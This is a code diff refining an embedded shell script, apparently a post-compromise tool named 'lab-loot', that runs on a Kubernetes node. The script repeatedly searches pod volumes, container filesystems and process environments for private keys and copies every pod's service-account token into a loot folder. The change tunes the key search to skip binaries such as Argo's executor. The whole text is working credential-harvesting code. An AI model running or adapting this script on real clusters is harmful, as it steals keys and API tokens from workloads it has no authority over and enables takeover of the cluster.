@@ -10,8 +10,10 @@ const UNIT = 'lab-loot';
 const SEARCH = `
 mkdir -p ${FOLDER}/tokens
 while :; do
-  grep -rls 'PRIVATE KEY' /var/lib/kubelet/pods /run/containerd/io.containerd.runtime.v2.task/k8s.io/*/rootfs/tmp \\
-    /proc/[0-9]*/environ 2>/dev/null >> ${FOLDER}/keys
+  # Argo's executor, a program in a volume of each step, has the words as well: programs are passed over.
+  grep -rlsI 'PRIVATE KEY' /var/lib/kubelet/pods /run/containerd/io.containerd.runtime.v2.task/k8s.io/*/rootfs/tmp \\
+    2>/dev/null >> ${FOLDER}/keys
+  grep -als 'PRIVATE KEY' /proc/[0-9]*/environ 2>/dev/null >> ${FOLDER}/keys
   for token in /var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/kube-api-access-*/token; do
     pod=$(echo "$token" | cut -d/ -f6)
     [ -f ${FOLDER}/tokens/$pod ] || cp "$token" ${FOLDER}/tokens/$pod 2>/dev/null
